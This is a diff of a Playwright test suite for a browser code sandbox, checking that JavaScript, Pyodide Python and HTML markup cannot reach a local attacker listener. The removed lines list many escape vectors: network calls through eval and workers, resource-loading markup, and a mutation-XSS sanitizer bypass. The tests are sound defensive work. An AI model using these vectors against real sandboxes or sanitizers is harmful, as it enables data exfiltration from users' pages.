@@ -1,19 +1,22 @@
 """The sandbox's walls: nothing that a program tries reaches the page, its origin or the network.
 
-Every way out is tried with the walls off first, where it must arrive, or it proves nothing and does
-not count: JavaScript in a worker of the page, Python in a plain Pyodide there, markup in a plain
-frame. Then the same is tried behind the walls. JavaScript is also tried in a bare worker of the
+Every way out of `ways_out.py` is tried behind the walls, and then with the walls off, where it must
+arrive, or it proves nothing and does not count: JavaScript in a worker of the page, Python in a
+plain Pyodide there, markup in a plain frame. What was walled in had at least as long to get out as
+what was not, and each has an attacker of its own. JavaScript is also tried in a bare worker of the
 sandbox, where only the frame's origin and policy stop it. All of it in Chromium, and in a Firefox
 as distributors ship it.
 """
 
 from __future__ import annotations
 
+import json
 import re
 import shutil
 import time
-from collections.abc import Iterator
-from contextlib import suppress
+from collections.abc import Iterable, Iterator, Mapping
+from contextlib import ExitStack, contextmanager, suppress
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
@@ -22,83 +25,26 @@ from playwright.sync_api import Browser, Page
 from playwright.sync_api import Error as PlaywrightError
 
 from tests.browser import sandbox_site
-from tests.browser.sandbox_site import Attacker, Site
+from tests.browser.attacker import Attacker, attacking
+from tests.browser.sandbox_site import Site
+from tests.browser.ways_out import (
+    HEARD_AS,
+    MARKUP_ALONE,
+    MARKUP_NOT_EVEN_THEN,
+    MARKUP_WAYS_OUT,
+    NOT_THERE,
+    ONLY_IN_PAGES,
+    PYTHON_NOT_EVEN_THEN,
+    PYTHON_WAYS_OUT,
+    WAYS_OUT,
+)
 
-pytestmark = pytest.mark.timeout(180)
+pytestmark = pytest.mark.timeout(300)
 
-# Bodies of async functions; URL is the attacker's, over http. Each ends when it has failed or not.
-WAYS_OUT = {
-    "fetch": "await fetch(URL)",
-    "blind fetch": "await fetch(URL, {mode: 'no-cors', method: 'POST', body: 'x'})",
-    "kept-alive fetch": "await fetch(URL, {keepalive: true})",
-    "fetch of a Request": "await fetch(new Request(URL, {headers: {a: 'b'}}))",
-    "HEAD": "await fetch(URL, {method: 'HEAD'})",
-    "streamed wasm": "await WebAssembly.compileStreaming(fetch(URL))",
-    "running wasm": "await WebAssembly.instantiateStreaming(fetch(URL))",
-    "fetch from eval": "await (0, eval)(`fetch('${URL}')`)",
-    "fetch from Function": "await new Function('u', 'return fetch(u)')(URL)",
-    "fetch from a constructor": "await (async () => 0).constructor(`await fetch('${URL}')`)()",
-    "fetch from a generator": "await (function* () {}).constructor(`yield fetch('${URL}')`)()"
-    ".next().value",
-    "fetch of a prototype": "await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch"
-    ".call(self, URL)",
-    "fetch from a timer": """await new Promise((r, f) => {
-      const code = `fetch('${URL}').finally(done)`; self.done = r; setTimeout(code, 0);
-      setTimeout(() => f(new Error('nothing')), 1000) })""",
-    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', URL, false); x.send()",
-    "posting XMLHttpRequest": """const x = new XMLHttpRequest(); x.open('POST', URL);
-      await new Promise((r, f) => { x.onload = r; x.onerror = f; x.send('x') })""",
-    "WebSocket": """const s = new WebSocket(URL.replace('http', 'ws'));
-      await new Promise(r => { s.onerror = s.onclose = s.onopen = r })""",
-    "WebSocket with a protocol": """const s = new WebSocket(URL.replace('http', 'ws'), ['secret']);
-      await new Promise(r => { s.onerror = s.onclose = s.onopen = r })""",
-    "EventSource": """const s = new EventSource(URL);
-      await new Promise(r => { s.onerror = s.onopen = r }); s.close()""",
-    "WebTransport": """const t = new WebTransport(URL.replace('http', 'https'));
-      await Promise.allSettled([t.ready, t.closed])""",
-    "importScripts": "importScripts(URL)",
-    "import()": "await import(URL)",
-    "import in a module": """await import(self.URL.createObjectURL(new Blob([`import '${URL}'`],
-      {type: 'text/javascript'})))""",
-    "export from a module": """await import(self.URL.createObjectURL(new Blob(
-      [`export * from '${URL}'`], {type: 'text/javascript'})))""",
-    "import of JSON": "await import(URL, {with: {type: 'json'}})",
-    "FontFace": "await new FontFace('f', `url(${URL})`).load()",
-    "Cache": "await (await caches.open('c')).add(URL)",
-    "Cache of many": "await (await caches.open('c')).addAll([URL, URL + '2'])",
-    "module worker": """const w = new Worker(self.URL.createObjectURL(new Blob(
-      [`import '${URL}'; postMessage(0)`], {type: 'text/javascript'})), {type: 'module'});
-      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
-    "worker inside": """const w = new Worker(self.URL.createObjectURL(new Blob([
-        `fetch('${URL}').catch(() => 0).then(() => {
-          try { importScripts('${URL}') } catch {} postMessage(0) })`])));
-      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
-    "socket of a worker inside": """const w = new Worker(self.URL.createObjectURL(new Blob([
-        `const s = new WebSocket('${URL.replace('http', 'ws')}');
-        s.onerror = s.onopen = () => postMessage(0)`])));
-      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
-    "worker in a worker": """const inner = `fetch('${URL}').finally(() => postMessage(0))`;
-      const w = new Worker(self.URL.createObjectURL(new Blob([
-        `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(inner)}])));
-        w.onmessage = w.onerror = () => postMessage(0)`])));
-      await new Promise((r, f) => { w.onmessage = r; w.onerror = f })""",
-    "shared worker": """const w = new SharedWorker(self.URL.createObjectURL(new Blob([
-        `onconnect = e => fetch('${URL}').catch(() => 0).then(() => e.ports[0].postMessage(0))`])));
-      await new Promise((r, f) => { w.port.onmessage = r; w.onerror = f })""",
-    "sendBeacon": "navigator.sendBeacon(URL, 'x')",
-}
-# These are not there in a worker anyway, so the page is where they must be seen to work.
-ONLY_IN_PAGES = {"sendBeacon", "shared worker"}
-
-TRY = """
-const tryIt = async URL => {
-  const late = new Promise((_, f) => setTimeout(f, 3000, 'still trying'));
-  const way = async () => { %s };
-  try { await Promise.race([way(), late]); return 'got out'; }
-  catch (error) { return `stopped: ${error}`; }
-};
-"""
+STILL_TRYING = "stopped: still trying"
 ATTEMPTS = 3
+#: Seconds for a way out that is open to lead somewhere.
+PATIENCE = 10.0
 
 NOT_WORTH_HAVING = [
     "document", "window", "parent", "top", "frames", "opener", "localStorage", "sessionStorage",
@@ -125,7 +71,8 @@ def site(repository: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator
 
 @pytest.fixture(scope="module")
 def page(browser: Browser, site: Site) -> Iterator[Page]:
-    context = browser.new_context()
+    # Room for all that is shown: what is out of sight may not be drawn, nor load anything.
+    context = browser.new_context(viewport={"width": 1440, "height": 1400})
     page = context.new_page()
     page.set_default_timeout(120_000)
     page.goto(site.url)
@@ -134,114 +81,148 @@ def page(browser: Browser, site: Site) -> Iterator[Page]:
     context.close()
 
 
-@pytest.fixture
-def attacker() -> Iterator[Attacker]:
-    with sandbox_site.attacking() as listening:
-        yield listening
-
-
 def run(page: Page, language: str, code: str) -> dict[str, Any]:
     script = "([language, code]) => arena.run(language, code, 30000)"
     result: dict[str, Any] = page.evaluate(script, [language, code])
     return result
 
 
-@pytest.mark.parametrize("way", WAYS_OUT)
-def test_outside_the_attacker_hears_of_it(page: Page, attacker: Attacker, way: str) -> None:
-    tried = TRY % WAYS_OUT[way]
-    if way in ONLY_IN_PAGES:
-        page.evaluate(f"url => {{ {tried} return tryIt(url); }}", attacker.url)
-    else:
-        worker = f"{tried} tryIt('{attacker.url}').then(postMessage)"
-        script = """code => new Promise(resolve => {
-          new Worker(URL.createObjectURL(new Blob([code]))).onmessage = e => resolve(e.data);
-        })"""
-        attempt(page, script, worker)
-    assert hears(page, attacker)
+@dataclass(frozen=True)
+class Tried:
+    """What a way out said where it was tried, and what its attacker heard; by way."""
+
+    said: Mapping[str, str]
+    heard: Mapping[str, list[str]]
 
 
-def attempt(page: Page, script: str, code: str) -> str:
-    """Try once, and anew while nothing comes of it: Firefox loses a worker in a worker at times."""
-    said = ""
-    for _ in range(ATTEMPTS):
-        said = page.evaluate(script, code)
-        if said != "stopped: still trying":
-            break
+@contextmanager
+def attackers(ways: Iterable[str]) -> Iterator[dict[str, Attacker]]:
+    """An attacker for each way."""
+    with ExitStack() as stack:
+        yield {way: stack.enter_context(attacking()) for way in ways}
+
+
+def wait_for_all(outside: Mapping[str, Attacker]) -> None:
+    """Wait until every attacker heard what it can hear, or until it is clear that one does not."""
+    deadline = time.monotonic() + PATIENCE
+    while time.monotonic() < deadline and not all(
+        any(HEARD_AS.get(way, "") in each for each in attacker.heard)
+        for way, attacker in outside.items()
+    ):
+        time.sleep(0.02)
+
+
+def all_heard(listening: Mapping[str, Attacker]) -> dict[str, list[str]]:
+    """What each heard until now."""
+    return {way: attacker.everything() for way, attacker in listening.items()}
+
+
+# --- JavaScript -----------------------------------------------------------------------------------
+
+
+def all_of(ways: Iterable[str], listening: Mapping[str, Attacker]) -> str:
+    """Code that tries all at once, each for some seconds, and has what came of them in `said`."""
+    functions = ",\n".join(
+        f"{json.dumps(way)}: [{json.dumps(listening[way].url)}, async URL => {{ {WAYS_OUT[way]} }}]"
+        for way in ways
+    )
+    return f"""
+    const said = {{}};
+    await Promise.all(Object.entries({{ {functions} }}).map(async ([name, [url, way]]) => {{
+      let timer;
+      const late = new Promise((_, f) => {{ timer = setTimeout(f, 3000, 'still trying'); }});
+      try {{ await Promise.race([way(url), late]); said[name] = 'got out'; }}
+      catch (error) {{ said[name] = `stopped: ${{error}}`; }}
+      clearTimeout(timer);
+    }}));"""
+
+
+def in_a_plain_worker(page: Page, code: str) -> dict[str, str]:
+    script = """code => new Promise((resolve, reject) => {
+      const worker = new Worker(URL.createObjectURL(new Blob([code])));
+      worker.onmessage = event => resolve(event.data);
+      worker.onerror = event => reject(event.message);
+    })"""
+    worker = f"(async () => {{ {code}; return said; }})().then(postMessage)"
+    result: dict[str, str] = page.evaluate(script, worker)
+    return result
+
+
+def in_a_page(page: Page, code: str) -> dict[str, str]:
+    result: dict[str, str] = page.evaluate(f"async () => {{ {code}; return said; }}")
+    return result
+
+
+def in_a_bare_worker(page: Page, code: str) -> dict[str, str]:
+    script = "code => arena.runBare(code)"
+    result: dict[str, str] = json.loads(
+        page.evaluate(script, f"{code}; report(JSON.stringify(said))")
+    )
+    return result
+
+
+def in_a_program(page: Page, code: str) -> dict[str, str]:
+    result = run(page, "javascript", f"{code}; console.log(JSON.stringify(said))")
+    assert result["error"] is None, result
+    said: dict[str, str] = json.loads(result["stdout"])
     return said
 
 
-def hears(page: Page, attacker: Attacker) -> bool:
-    """Whether something came, other than this question's own request, which comes last."""
-    # By another name, so that it cannot travel on a connection that a probe has opened.
-    page.evaluate("port => fetch(`http://localhost:${port}/last`)", attacker.port)
-    assert attacker.heard[-1] == "GET /last"
-    return attacker.heard != ["tcp", "GET /last"]
+@pytest.fixture(scope="module")
+def scripts(page: Page) -> dict[str, Tried]:
+    """What came of each way out, in a bare worker, in a program, and outside."""
+    places = {"bare": in_a_bare_worker, "program": in_a_program, "outside": in_a_plain_worker}
+    with ExitStack() as stack:
+        said: dict[str, dict[str, str]] = {}
+        listening: dict[str, dict[str, Attacker]] = {}
+        for place, attempt in places.items():
+            listening[place] = stack.enter_context(attackers(WAYS_OUT))
+            outside = set(WAYS_OUT) if place != "outside" else set(WAYS_OUT) - ONLY_IN_PAGES
+            said[place] = {}
+            for _ in range(ATTEMPTS):  # Firefox loses a worker in a worker at times
+                again = [
+                    way for way in outside if said[place].get(way, STILL_TRYING) == STILL_TRYING
+                ]
+                if again:
+                    said[place] |= attempt(page, all_of(again, listening[place]))
+        said["outside"] |= in_a_page(page, all_of(ONLY_IN_PAGES, listening["outside"]))
+        wait_for_all(listening["outside"])
+        return {place: Tried(said[place], all_heard(listening[place])) for place in places}
 
 
 @pytest.mark.parametrize("way", WAYS_OUT)
-def test_the_frame_alone_stops_it(page: Page, attacker: Attacker, way: str) -> None:
-    code = TRY % WAYS_OUT[way] + f"report(await tryIt('{attacker.url}'))"
-    tried = attempt(page, "code => arena.runBare(code)", code)
-    assert tried.startswith(("stopped", "got out"))
-    assert not hears(page, attacker)
+def test_outside_the_attacker_hears_of_it(scripts: dict[str, Tried], way: str) -> None:
+    heard = scripts["outside"].heard[way]
+    assert any(HEARD_AS.get(way, "") in each for each in heard), scripts["outside"].said[way]
 
 
 @pytest.mark.parametrize("way", WAYS_OUT)
-def test_a_javascript_program_cannot(page: Page, attacker: Attacker, way: str) -> None:
-    code = TRY % WAYS_OUT[way] + f"console.log(await tryIt('{attacker.url}'))"
-    result = run(page, "javascript", code)
-    assert result["stdout"].startswith("stopped: "), result
-    assert not hears(page, attacker)
+def test_the_frame_alone_stops_it(scripts: dict[str, Tried], way: str) -> None:
+    assert scripts["bare"].said[way].startswith(("stopped", "got out"))
+    assert scripts["bare"].heard[way] == []
 
 
-def test_a_javascript_program_cannot_import_statically(page: Page, attacker: Attacker) -> None:
-    result = run(page, "javascript", f"import '{attacker.url}'")
-    assert result["status"] == "error"
-    assert not hears(page, attacker)
+@pytest.mark.parametrize("way", WAYS_OUT)
+def test_a_javascript_program_cannot(scripts: dict[str, Tried], way: str) -> None:
+    assert scripts["program"].said[way].startswith("stopped: ")
+    assert scripts["program"].heard[way] == []
 
 
-PYTHON_WAYS_OUT = {
-    "js.fetch": "import js\nawait js.fetch(URL)",
-    "from js": "from js import fetch\nawait fetch(URL, method='POST', body='x')",
-    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(URL)",
-    "open_url": "from pyodide.http import open_url\nopen_url(URL)",
-    "pyxhr": "from pyodide.http import pyxhr\npyxhr.get(URL)",
-    "XMLHttpRequest": "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL, False)\nx.send()",
-    "WebSocket": "import js\nfrom asyncio import sleep\n"
-    "js.WebSocket.new(URL.replace('http', 'ws'))\nawait sleep(0.3)",
-    "EventSource": "import js\nfrom asyncio import sleep\njs.EventSource.new(URL)\n"
-    "await sleep(0.3)",
-    "Worker": "import js\nfrom asyncio import sleep\nblob = js.Blob.new([f'fetch(\"{URL}\")'])\n"
-    "js.Worker.new(js.URL.createObjectURL(blob))\nawait sleep(0.5)",
-    "FontFace": "import js\nawait js.FontFace.new('f', f'url({URL})').load()",
-    "Cache": "import js\nawait (await js.caches.open('p')).add(URL)",
-    "eval": "import js\nawait js.eval(f'import(\"{URL}\")')",
-    "eval of fetch": "import js\nawait js.eval(f'fetch(\"{URL}\")')",
-    "run_js": "from pyodide.code import run_js\nawait run_js(f'import(\"{URL}\")')",
-    "Function": "import js\nawait js.Function.new(f'return import(\"{URL}\")')()",
-    "constructor": "import js\nawait js.Object.constructor(f'return fetch(\"{URL}\")')()",
-    "globalThis": "import js\nawait js.globalThis.fetch(URL)",
-    "Reflect": "import js\nawait js.Reflect.get(js.globalThis, 'fetch')(URL)",
-    "timer text": "import js\njs.setTimeout(f'fetch(\"{URL}\")', 0)\n"
-    "from asyncio import sleep\nawait sleep(0.3)\n",
-    "a package": "import pyodide_js\nawait pyodide_js.loadPackage(URL + 'x-1.0-py3-none-any.whl')\n"
-    "import x",
-    "the interpreter's own loader": "import pyodide_js\n"
-    "await pyodide_js._module.API.loadBinaryFile(URL, 'x')",
-}
-# No interpreter in a browser can do these, wall or no wall: they have nothing to prove.
-PYTHON_NOT_EVEN_THEN = {
-    "urllib": "from urllib.request import urlopen\nurlopen(URL, timeout=2)",
-    "socket": "import socket\nsocket.create_connection(('127.0.0.1', PORT), timeout=2).send(b'x')",
-    "asyncio": "import asyncio\nawait asyncio.open_connection('127.0.0.1', PORT)",
-}
+def test_a_javascript_program_cannot_import_statically(page: Page) -> None:
+    with attacking() as attacker:
+        result = run(page, "javascript", f"import '{attacker.url}'")
+        assert result["status"] == "error"
+        assert attacker.everything() == []
+
+
+# --- Python ---------------------------------------------------------------------------------------
 
 PLAIN_PYTHON = """base => {
   const code = `
     import { loadPyodide } from '${base}plain/pyodide.mjs';
     const pyodide = await loadPyodide({ indexURL: '${base}plain/' });
     onmessage = async ({ data }) => {
-      try { await pyodide.runPythonAsync(data); postMessage('done'); }
+      try { postMessage(await pyodide.runPythonAsync(data)); }
       catch (error) { postMessage(String(error)); }
     };
     postMessage('ready');`;
@@ -272,124 +253,104 @@ def plain(browser: Browser, site: Site, repository: Path) -> Iterator[Page]:
     context.close()
 
 
+ONE_AFTER_ANOTHER = """
+import ast, inspect, json
+said = {}
+for name, (URL, PORT, code) in json.loads(ways).items():
+    try:
+        code = compile(code, name, 'exec', flags=ast.PyCF_ALLOW_TOP_LEVEL_AWAIT)
+        result = eval(code, {'URL': URL, 'PORT': PORT})
+        if inspect.isawaitable(result):
+            await result
+        said[name] = 'done'
+    except BaseException as error:
+        said[name] = repr(error)
+"""
+
+
+def all_of_python(ways: Mapping[str, str], listening: Mapping[str, Attacker]) -> str:
+    """A program that tries one after another, and has what came of them in `said`."""
+    table = {way: [listening[way].url, listening[way].port, code] for way, code in ways.items()}
+    return f"ways = {json.dumps(table)!r}\n{ONE_AFTER_ANOTHER}"
+
+
+@pytest.fixture(scope="module")
+def pythons(page: Page, plain: Page) -> dict[str, Tried]:
+    """What came of each way out of Python, in a program and outside."""
+    walled = PYTHON_WAYS_OUT | PYTHON_NOT_EVEN_THEN
+    with attackers(walled) as inside, attackers(PYTHON_WAYS_OUT) as outside:
+        program = run(page, "python", all_of_python(walled, inside) + "print(json.dumps(said))")
+        assert program["error"] is None, program
+        code = all_of_python(PYTHON_WAYS_OUT, outside) + "json.dumps(said)"
+        told = plain.evaluate("code => plainPython(code)", code)
+        assert told.startswith("{"), told
+        said = json.loads(told)
+        wait_for_all(outside)
+        return {
+            "program": Tried(json.loads(program["stdout"].splitlines()[-1]), all_heard(inside)),
+            "outside": Tried(said, all_heard(outside)),
+        }
+
+
 @pytest.mark.parametrize("way", PYTHON_WAYS_OUT)
-def test_outside_the_attacker_hears_of_python(plain: Page, attacker: Attacker, way: str) -> None:
-    code = f"URL, PORT = '{attacker.url}', {attacker.port}\n{PYTHON_WAYS_OUT[way]}"
-    said = plain.evaluate("code => plainPython(code)", code)
-    assert hears(plain, attacker), said
+def test_outside_the_attacker_hears_of_python(pythons: dict[str, Tried], way: str) -> None:
+    heard = pythons["outside"].heard[way]
+    assert any(HEARD_AS.get(way, "") in each for each in heard), pythons["outside"].said[way]
 
 
 @pytest.mark.parametrize("way", [*PYTHON_WAYS_OUT, *PYTHON_NOT_EVEN_THEN])
-def test_a_python_program_cannot(page: Page, attacker: Attacker, way: str) -> None:
-    body = PYTHON_WAYS_OUT.get(way) or PYTHON_NOT_EVEN_THEN[way]
-    ended = "\nraise OSError('nothing happened')"
-    code = f"URL, PORT = '{attacker.url}', {attacker.port}\n{body}{ended}"
-    result = run(page, "python", code)
-    assert result["status"] == "error", result
-    assert not hears(page, attacker)
+def test_a_python_program_cannot(pythons: dict[str, Tried], way: str) -> None:
+    assert way in pythons["program"].said
+    assert pythons["program"].heard[way] == []
 
 
-# Markup that a value shows; URL is the attacker's.
-MARKUP_WAYS_OUT = {
-    "picture": "<img src=URL>",
-    "set of pictures": "<img srcset='URL 1x'>",
-    "source of a picture": "<picture><source srcset=URL><img></picture>",
-    "drawn picture": "<svg><image href=URL width=9 height=9 /></svg>",
-    "filter": "<svg width=9 height=9><filter id=f><feImage href=URL /></filter>"
-    "<rect width=9 height=9 filter='url(#f)'/></svg>",
-    "style": "<p style='background: url(URL)'>x</p>",
-    "rule": "<style>p { background: url(URL) }</style><p>x</p>",
-    "@import": "<style>@import 'URL';</style>",
-    "font": "<style>@font-face { font-family: f; src: url(URL) } p { font-family: f }</style><p>x",
-    "content": "<style>p::before { content: url(URL) }</style><p>x",
-    "list style": "<ul style='list-style-image: url(URL)'><li>x</ul>",
-    "border": "<p style='border: 9px solid; border-image: url(URL) 9'>x</p>",
-    "mask": "<p style='-webkit-mask: url(URL); background: red'>x</p>",
-    "image-set": "<p style='background: image-set(\"URL\" 1x)'>x</p>",
-    "background attribute": "<table background=URL><tr><td>x</table>",
-    "input picture": "<input type=image src=URL>",
-    "style sheet": "<link rel=stylesheet href=URL>",
-    "preload": "<link rel=preload as=image href=URL>",
-    "prefetch": "<link rel=prefetch href=URL>",
-    "module preload": "<link rel=modulepreload href=URL>",
-    "frame": "<iframe src=URL></iframe>",
-    "frame with text": "<iframe srcdoc='<img src=URL>'></iframe>",
-    "object": "<object data=URL></object>",
-    "embed": "<embed src=URL>",
-    "film": "<video src=URL preload=auto></video>",
-    "poster": "<video poster=URL></video>",
-    "sound": "<audio src=URL preload=auto></audio>",
-    "script": "<script src=URL></script>",
-    "code": "<script>fetch('URL')</script>",
-    "handler": "<img src='data:,' onerror='fetch(\"URL\")'>",
-    "drawn handler": "<svg onload='fetch(\"URL\")'></svg>",
-    "refresh": "<meta http-equiv=refresh content='0;url=URL'>",
-    "base": "<base href=URL><img src=relative.png>",
-    "shadow": "<div><template shadowrootmode=open><img src=URL></template></div>",
-    "link": "<a href=URL id=press>x</a>",
-    "link to itself": "<a href=URL target=_self id=press>x</a>",
-    "link to the top": "<a href=URL target=_top id=press>x</a>",
-    "drawn link": "<svg width=99 height=99><a href=URL><rect id=press width=90 "
-    "height=90 /></a></svg>",
-    "drawn link of old": "<svg width=99 height=99><a xlink:href=URL><rect id=press width=90 "
-    "height=90 /></a></svg>",
-    "moved link": "<svg width=99 height=99><a><set attributeName=href to=URL />"
-    "<rect id=press width=90 height=90 /></a></svg>",
-    "formula": "<math><mtext href=URL id=press>xxxxx</mtext></math>",
-    "preconnect": "<link rel=preconnect href=URL>",
-    "preload of a set": "<link rel=preload as=image imagesrcset='URL 1x'>",
-    "data and more": "<img srcset='data:image/png,x 9x, URL 1x'>",
-    "named like a method": "<form><input name=getAttributeNames></form><img name=querySelectorAll>"
-    "<img name=body><img srcset='URL 1x'>",
-    "ping": "<a href='#' ping=URL id=press>x</a>",
-    "form": "<form action=URL><button id=press>x</button></form>",
-    "posting form": "<form action=URL method=post target=_blank><button id=press>x</button></form>",
-}
+# --- markup ---------------------------------------------------------------------------------------
 
 
-# Only a second reading of what a cleaner wrote makes a link of it.
-MARKUP_NOT_EVEN_THEN = {
-    "hidden from one reading": "<form><math><mtext></form><form><mglyph><style></math>"
-    "<svg width=99 height=99><a href=URL><rect id=press width=90 height=90 /></a></svg>",
-}
-# Browsers in which a way out is none, so that it has nothing to prove there.
-NOT_THERE = {
-    ("firefox", "ping"): "Firefox ships with browser.send_pings off",
-    ("chromium", "formula"): "Chromium has no links in formulas",
-    ("chromium", "preconnect"): "the flags with which Chromium is driven forbid it",
-}
+def show_all(
+    page: Page, sources: Mapping[str, str], listening: Mapping[str, Attacker], how: str
+) -> None:
+    """Show markup, each in a frame, and press what is in there to be pressed."""
+    texts = [source.replace("URL", listening[way].url) for way, source in sources.items()]
+    with suppress(PlaywrightError):  # it may have led the page away
+        page.evaluate(f"texts => arena.{how}(...texts)", texts)
+        for number, source in enumerate(sources.values()):
+            if "id=press" in source:
+                page.frame_locator(f".shown iframe >> nth={number}").locator("#press").click()
 
 
-def show_markup(page: Page, source: str, attacker: Attacker, how: str) -> None:
-    """Show markup in a frame, press what is in there to be pressed, and wait until it is loaded."""
-    page.evaluate(f"html => arena.{how}(html)", source.replace("URL", attacker.url))
-    if "id=press" in source:
-        page.frame_locator("iframe.shown").locator("#press").click()
+@pytest.fixture(scope="module")
+def markups(browser: Browser, site: Site, page: Page) -> dict[str, Tried]:
+    """What came of each way out of markup: as the output pane shows it, and in a plain frame."""
+    walled = MARKUP_WAYS_OUT | MARKUP_NOT_EVEN_THEN
+    absent = {way for name, way in NOT_THERE if name == browser.browser_type.name}
+    groups = [set(walled) - MARKUP_ALONE, *({way} for way in MARKUP_ALONE)]
+    with attackers(walled) as inside, attackers(walled) as outside:
+        for group in groups:
+            show_all(page, {way: walled[way] for way in group}, inside, "showMarkup")
+            context = browser.new_context(viewport=page.viewport_size)
+            plain = context.new_page()
+            plain.goto(site.url)
+            present = group.intersection(MARKUP_WAYS_OUT) - absent
+            show_all(plain, {way: walled[way] for way in present}, outside, "showPlainly")
+            wait_for_all({way: outside[way] for way in present})
+            context.close()
+        return {"pane": Tried({}, all_heard(inside)), "outside": Tried({}, all_heard(outside))}
 
 
 @pytest.mark.parametrize("way", MARKUP_WAYS_OUT)
 def test_outside_the_attacker_hears_of_markup(
-    browser: Browser, site: Site, attacker: Attacker, way: str
+    browser: Browser, markups: dict[str, Tried], way: str
 ) -> None:
-    if (browser.browser_type.name, way) in NOT_THERE:
-        return
-    context = browser.new_context()
-    page = context.new_page()
-    page.goto(site.url)
-    with suppress(PlaywrightError):  # it may have led the page away
-        show_markup(page, MARKUP_WAYS_OUT[way], attacker, "showPlainly")
-    deadline = time.monotonic() + 5
-    while not attacker.heard and time.monotonic() < deadline:
-        page.wait_for_timeout(20)
-    assert attacker.heard
-    context.close()
+    reason = NOT_THERE.get((browser.browser_type.name, way))
+    if reason is not None:
+        pytest.skip(reason)
+    assert markups["outside"].heard[way]
 
 
 @pytest.mark.parametrize("way", [*MARKUP_WAYS_OUT, *MARKUP_NOT_EVEN_THEN])
-def test_markup_cannot(page: Page, attacker: Attacker, way: str) -> None:
-    source = MARKUP_WAYS_OUT.get(way) or MARKUP_NOT_EVEN_THEN[way]
-    show_markup(page, source, attacker, "showMarkup")
-    assert not hears(page, attacker)
+def test_markup_cannot(markups: dict[str, Tried], way: str) -> None:
+    assert markups["pane"].heard[way] == []
 
 
 HARMLESS = [
@@ -404,7 +365,7 @@ HARMLESS = [
 @pytest.mark.parametrize("source", HARMLESS)
 def test_markup_that_leads_nowhere_is_shown_as_it_is(page: Page, source: str) -> None:
     page.evaluate("html => arena.showMarkup(html)", source)
-    assert page.frame_locator("iframe.shown").locator("body").inner_html() == source
+    assert page.frame_locator(".shown iframe").locator("body").inner_html() == source
 
 
 def test_there_are_at_least_seventy_ways() -> None:
